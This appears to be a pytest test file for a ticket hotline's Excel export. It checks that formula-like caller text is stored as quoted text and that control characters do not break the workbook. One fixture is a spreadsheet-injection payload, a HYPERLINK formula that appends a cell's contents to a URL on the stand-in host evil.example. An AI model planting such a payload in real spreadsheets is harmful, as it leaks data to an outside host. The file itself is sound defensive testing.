"""What callers typed, in the Excel export: text stays text (no formula injection), and
characters a worksheet cannot hold do not break the file."""

import io
import re
import zipfile

import pytest
from openpyxl import load_workbook

from .factories import make_ticket, make_world
from .test_api import TICKETS, client_for

pytestmark = pytest.mark.django_db

EXPORT = f"{TICKETS}export.xlsx"
TITLE = '=HYPERLINK("http://evil.example/?d="&Q2,"点击查看详情")'


@pytest.fixture
def world():
    return make_world()


def export(world, **params):
    response = client_for(world.hotline).get(EXPORT, params)
    assert response.status_code == 200, response.content[:300]
    return response.content


def sheet_xml(content):
    with zipfile.ZipFile(io.BytesIO(content)) as book:
        return book.read("xl/worksheets/sheet1.xml").decode()


def cells(content):
    sheet = load_workbook(io.BytesIO(content)).active
    header = [c.value for c in sheet[1]]
    return [dict(zip(header, row, strict=True)) for row in sheet.iter_rows(min_row=2)]


def test_text_that_looks_like_a_formula_is_written_as_text(world):
    # A caller's words become the title and address; a name is typed by the hotline.
    make_ticket(world, title=TITLE, address="+1+2 幸福路", requester_name="@SUM(1)")
    make_ticket(world, title="-2+3 楼道堆物", address="=1+1")
    for content in (export(world), export(world, purpose="回访")):
        assert "<f>" not in sheet_xml(content)  # no formula anywhere in the sheet
        rows = cells(content)
        by_title = {row["标题"].value: row for row in rows}
        first, second = by_title[TITLE], by_title["-2+3 楼道堆物"]
        cases = (first["标题"], first["地址"], first["诉求人"], second["标题"], second["地址"])
        for cell in cases:
            assert cell.data_type == "s"
            # Shown as typed, and kept text when the cell is edited in Excel or WPS.
            assert cell.quotePrefix, cell.value
        assert first["地址"].value in ("+1+2 幸福路", "+*+* 幸福路")  # in full, or masked
        assert first["诉求人"].value in ("@SUM(1)", "@******")
        assert second["地址"].value in ("=1+1", "=*+*")
    # Ordinary text is not marked.
    make_ticket(world, title="路灯不亮")
    plain = next(r for r in cells(export(world)) if r["标题"].value == "路灯不亮")
    assert not plain["标题"].quotePrefix


def test_a_formula_prefix_leaves_the_values_as_they_were_for_the_import(world):
    make_ticket(world, title=TITLE)
    sheet = load_workbook(io.BytesIO(export(world)), read_only=True, data_only=True).active
    values = [v for row in sheet.iter_rows(values_only=True) for v in row]
    assert TITLE in values
    assert not any(isinstance(v, str) and re.match(r"^'=", v) for v in values)


def test_control_characters_typed_or_pasted_do_not_break_the_export(world):
    # A vertical tab or form feed comes with text pasted from Word or another sheet;
    # openpyxl refuses them (IllegalCharacterError), which failed the whole export.
    make_ticket(world, title="楼道\x0b堆物\x0c严重", address="幸福路\x1f1号")
    make_ticket(world, title="\x01=1+1")
    for content in (export(world), export(world, purpose="回访")):
        assert "<f>" not in sheet_xml(content)
        titles = {row["标题"].value for row in cells(content)}
        assert titles == {"楼道堆物严重", "=1+1"}
